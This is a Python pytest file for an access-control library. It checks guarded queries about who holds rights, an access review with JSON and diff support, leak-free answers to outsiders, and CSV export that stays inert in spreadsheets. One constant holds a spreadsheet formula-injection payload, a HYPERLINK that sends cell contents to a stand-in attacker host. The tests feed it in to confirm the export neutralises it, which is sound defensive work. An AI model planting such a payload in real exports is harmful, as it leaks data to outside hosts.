"""Contract: who may ask who holds access, and the access review (R-CO-6, R-ALL-9).

The reverse queries hand out knowledge of other people's rights, so each is guarded;
each guard below has a test that fails when it is removed. The review lists every
grant with its source, survives a JSON round trip, compares two reviews, and its CSV
is inert when opened in a spreadsheet. A caller without sight of a company learns
from every read the same as of a company that does not exist (R-ALL-9).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest

from teamaccess import TeamAccess
from teamaccess.domain.review import AccessReview
from teamaccess.errors import AccessDenied, InvalidInput, TeamAccessError
from teamaccess.testing import make_service

ADMIN = "platform"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def review_ta(store, clock):
    """ACME (anna main contact, ben member, a seat pool with carla), a child, an invitation."""
    ta = make_service(store, clock=clock, platform_admins={ADMIN})
    for user in (ADMIN, "anna", "ben", "carla", "dora", EVIL):
        ta.users.register(user, f"{len(user)}{user[:4].strip('=')}@example.com")
    ta.companies.create("anna", "ACME", company_id="acme")
    ta.members.add("anna", "acme", "ben")
    ta.partners.create_child("anna", "acme", "Child", company_id="child")
    ta.members.add("anna", "child", "dora")
    ta.seats.create_product(ADMIN, "course", "Course", tag="+course")
    pool = ta.seats.purchase("anna", "course", 2, "Group", company_id="acme")
    ta.seats.enroll("anna", pool.id, ta.users.get("carla").email)
    ta.invitations.send("anna", "acme", "-guest@example.com")
    return ta


def test_r_co_6_reverse_queries_are_guarded(review_ta) -> None:
    """R-CO-6: members lists need view_members, a user's companies are theirs, viewers are admins'."""
    ta = review_ta
    with pytest.raises(AccessDenied) as denied:
        ta.access.who_may("carla", "acme", "view_members")  # not a member
    assert denied.value.decision.rule == "R-CO-6"
    assert [h.user_id for h in ta.access.who_may("ben", "acme", "invite").items] == ["anna"]
    with pytest.raises(AccessDenied):
        ta.access.where_may("ben", "anna", "view_members")
    assert [h.company_id for h in ta.access.where_may("ben", "ben", "view_overview").items] == [
        "acme",
        "child",
    ]
    with pytest.raises(AccessDenied):
        ta.access.expand("carla", "anna", "acme", "invite")
    assert ta.access.expand("carla", "carla", "acme", "invite").decision.reason == "not_a_member"
    with pytest.raises(AccessDenied):
        ta.access.who_sees_record("anna", "nothing")


def test_r_co_6_expand_shows_the_path_behind_a_decision(review_ta) -> None:
    """R-CO-6, R-PART-2: expand names the company, the ancestor membership and the rule."""
    expanded = review_ta.access.expand(ADMIN, "ben", "child", "view_overview")
    assert expanded.decision == review_ta.check("ben", "child", "view_overview")
    assert [(s.kind, s.subject) for s in expanded.steps] == [
        ("company", "child"), ("membership", "ben@acme"), ("ancestor", "acme"),
        ("rule", "R-PART-2"),
    ]  # fmt: skip
    denied = review_ta.access.expand("anna", "ben", "acme", "edit_profile")
    assert [s.kind for s in denied.steps] == ["company", "membership", "role", "rule"]
    assert [s.detail for s in denied.steps][1:3] == ["role member", "grants nothing"]
    assert denied.steps[-1].subject == "R-MC-2"


def test_r_co_6_review_lists_every_grant_and_only_for_owners(review_ta) -> None:
    """R-CO-6: the review holds roles, main contact, leader, seat, tag, invitation, overview."""
    with pytest.raises(AccessDenied):
        review_ta.access.review("ben", "acme")  # a plain member
    review = review_ta.access.review("anna", "acme", subtree=True)
    assert review.companies == ("acme", "child")
    kinds = {(r.company_id, r.subject, r.kind) for r in review.rows}
    assert {("acme", "anna", "main_contact"), ("acme", "ben", "role"),
            ("acme", "anna", "leader"), ("acme", "carla", "seat"), ("acme", "carla", "tag"),
            ("acme", "-guest@example.com", "invitation"),
            ("child", "ben", "overview")} <= kinds  # fmt: skip
    assert ("child", "anna", "overview") not in kinds  # she is a member there
    seat = next(r for r in review.rows if r.kind == "seat")
    tag = next(r for r in review.rows if r.kind == "tag")
    assert (tag.grant, tag.via) == ("+course", f"pool:{seat.grant}")
    assert AccessReview.from_json(review.to_json()) == review
    with pytest.raises(InvalidInput):
        AccessReview.from_json('{"rows": 1}')


def test_r_co_6_review_diff_names_who_gained_and_lost_what(review_ta) -> None:
    """R-CO-6: a later review against an earlier one: gained and lost grants, nothing else."""
    earlier = review_ta.access.review(ADMIN, "acme")
    review_ta.members.change_role("anna", "acme", "ben", "admin")
    review_ta.members.add("anna", "acme", "dora")
    diff = review_ta.access.review(ADMIN, "acme").diff(earlier)
    assert {(r.subject, r.kind, r.grant) for r in diff.gained} == {
        ("ben", "role", "admin"), ("dora", "role", "member"),
    }  # fmt: skip
    assert {(r.subject, r.kind, r.grant) for r in diff.lost} == {("ben", "role", "member")}
    assert not review_ta.access.review(ADMIN, "acme").diff(review_ta.access.review(ADMIN, "acme"))


def test_r_co_6_review_csv_is_inert_in_a_spreadsheet(review_ta) -> None:
    """R-CO-6: cells starting with = + - @ tab or CR come out as text, not formulas."""
    review_ta.members.add("anna", "acme", EVIL)
    text = review_ta.access.review("anna", "acme").to_csv()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert EVIL in {cell[1:] for cell in cells}  # the value is there, prefixed
    assert "-guest@example.com" in {cell[1:] for cell in cells}
    assert "+course" in {cell[1:] for cell in cells}
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def _outsider_answer(call: Callable[[], Any], *ids: str) -> tuple[str, str]:
    """The exception type and text of ``call``, with the named ids made anonymous."""
    try:
        kind, answer = "returned", repr(call())
    except TeamAccessError as error:
        kind, answer = type(error).__name__, str(error)
    for name in ids:
        answer = answer.replace(name, "<id>")
    return kind, answer


def test_r_all_9_expand_tells_an_outsider_nothing_of_members(review_ta) -> None:
    """R-ALL-9: expand by an outsider shows no member's role; the same answer as for nothing."""
    ta = review_ta
    real = ta.access.expand("carla", "carla", "acme", "remove_member", target_user_id="ben")
    assert "ben" not in repr(real)
    assert "member" not in [s.kind for s in real.steps][2:]
    ghost = ta.access.expand("carla", "carla", "acme", "remove_member", target_user_id="nobody")
    missing = ta.access.expand("carla", "carla", "nowhere", "remove_member", target_user_id="ben")
    assert real == ghost
    assert repr(real).replace("acme", "<id>") == repr(missing).replace("nowhere", "<id>")
    own = ta.access.expand("ben", "ben", "acme", "remove_member", target_user_id="anna")
    assert ("target", "anna@acme") in [(s.kind, s.subject) for s in own.steps]  # a member sees


def test_r_all_9_every_access_and_partner_read_answers_an_outsider_as_for_nothing(
    review_ta,
) -> None:
    """R-ALL-9: who_may, review, expand, overviews, member lists: existing == missing, to carla."""
    ta = review_ta
    ta.companies.suspend(ADMIN, "child", reason="fraud suspected")
    reads: list[Callable[[TeamAccess, str], Any]] = [
        lambda t, c: t.access.who_may("carla", c, "view_members"),
        lambda t, c: t.access.who_may("carla", c, "remove_member", target_user_id="ben"),
        lambda t, c: t.access.review("carla", c),
        lambda t, c: t.access.review("carla", c, subtree=True),
        lambda t, c: t.access.expand("carla", "carla", c, "view_overview"),
        lambda t, c: t.access.expand("carla", "anna", c, "view_overview"),
        lambda t, c: t.partners.overview("carla", c),
        lambda t, c: t.partners.account_overview("carla", c),
        lambda t, c: t.members.list("carla", c),
        lambda t, c: t.members.remove("carla", c, "ben"),
        lambda t, c: t.members.change_role("carla", c, "ben", "admin"),
        lambda t, c: t.members.set_show_as_contact("carla", c, "ben", False),
        lambda t, c: t.members.transfer_main_contact("carla", c, "ben"),
        lambda t, c: t.members.add("carla", c, "dora"),
        lambda t, c: t.partners.create_child("carla", c, "Mine"),
        lambda t, c: t.partners.define_property("carla", c, "region", "text"),
        lambda t, c: t.partners.set_properties("carla", c, {}),
        lambda t, c: t.partners.move("carla", c, None),
        lambda t, c: t.partners.move("carla", "carlas", c),  # under a company not hers
    ]
    ta.companies.create("carla", "Carla's", company_id="carlas")
    for read in reads:
        missing = _outsider_answer(lambda r=read: r(ta, "nowhere"), "nowhere")
        for company_id in ("acme", "child"):  # open, and suspended with a reason
            found = _outsider_answer(lambda r=read, c=company_id: r(ta, c), company_id)
            assert found == missing, (company_id, found, missing)
            assert "fraud" not in found[1]
            assert "suspended" not in found[1]
